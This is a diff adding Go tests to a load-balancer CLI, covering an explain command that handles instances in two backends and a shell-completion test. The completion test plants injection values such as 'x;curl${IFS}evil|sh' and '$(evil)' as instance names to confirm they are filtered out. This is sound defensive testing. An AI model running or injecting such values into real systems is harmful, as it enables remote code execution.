@@ -1,6 +1,7 @@
 package cli
 
 import (
+	"io"
 	"strings"
 	"testing"
 	"time"
@@ -90,5 +91,62 @@ func TestExplainService_WhatIsWrong_IsListed(t *testing.T) {
 	}
 	if strings.Contains(out.String(), "shop") {
 		t.Errorf("another service is shown:\n%s", out.String())
+	}
+}
+
+func TestExplain_InstanceInTwoBackends_IsExplainedInBoth(t *testing.T) {
+	s := sampleState()
+	up := s.Services[0].Instances[1]
+	s.Services = []reconcile.ServiceState{
+		{Name: "pg", Backend: "pg-primary", Known: true, Instances: []reconcile.InstanceState{up}},
+		{Name: "pg", Backend: "pg-replica", Known: true, Instances: []reconcile.InstanceState{up}},
+	}
+	var out strings.Builder
+	if err := explain(&out, s, nil, "pg/api-2"); err != nil || !strings.Contains(out.String(), "pg-primary/api-2 at") || !strings.Contains(out.String(), "pg-replica/api-2 at") {
+		t.Errorf("got %v and\n%s", err, out.String())
+	}
+	// Two nodes have an instance of the same ID.
+	other := up
+	other.Node, other.Server, other.Addr = "n2", "api-2-f00", "10.0.0.3:80"
+	s.Services[1].Instances[0] = other
+	if err := explain(&out, s, nil, "api-2"); err == nil || !strings.HasSuffix(err.Error(), ":\npg-primary/api-2 at 10.0.0.2:80\npg-replica/api-2-f00 at 10.0.0.3:80, instance api-2 on n2") {
+		t.Errorf("two nodes: got %v", err)
+	}
+	// And of servers that Consul does not list, each is another.
+	for i := range s.Services {
+		s.Services[i].Instances[0] = reconcile.InstanceState{Server: "slot-1", Addr: "10.0.0.9:80"}
+	}
+	if err := explain(&out, s, nil, "slot-1"); err == nil || !strings.Contains(err.Error(), "pg-replica/slot-1") {
+		t.Errorf("two slots: got %v", err)
+	}
+}
+
+func TestCompletion_NamesOfTheState_AreOfferedIfAShellTakesThem(t *testing.T) {
+	s := sampleState()
+	evil := s.Services[0].Instances[1]
+	evil.ID, evil.Server = "x;curl${IFS}evil|sh", "$(evil)"
+	s.Services[1].Instances = append(s.Services[1].Instances, evil)
+	twin := s.Services[0].Instances[1]
+	twin.Node, twin.Server = "n2", "api-2-f00"
+	s.Services[1].Instances = append(s.Services[1].Instances, twin)
+	at := serveState(t, func() *reconcile.State { return s })
+	complete := func(at, args string) string {
+		var out strings.Builder
+		line := append([]string{"__complete", "--config", settingsFile(t, "services: [{name: api}]\napi: {address: "+at+"}\n")}, strings.Fields(args)...)
+		Run(t.Context(), Env{Args: append(line, ""), Hostname: "lb0", Stdout: &out, Stderr: io.Discard})
+		return out.String()
+	}
+	for args, want := range map[string]string{
+		"explain server": "api-1\nb_api/api-2\nmail/m\nmail/api-2-f00\n:4\n",
+		"drain":          "api-1\nb_api/api-2\nmail/m\nmail/api-2-f00\n:4\n",
+		"status":         "api\nmail\n:4\n",
+		"status api":     ":4\n",
+	} {
+		if out := complete(at, args); out != want {
+			t.Errorf("%s: got %q, want %q", args, out, want)
+		}
+	}
+	if out := complete(by("127.0.0.1:1", ""), "status"); out != ":4\n" {
+		t.Errorf("no sidecar: got %q", out)
 	}
 }
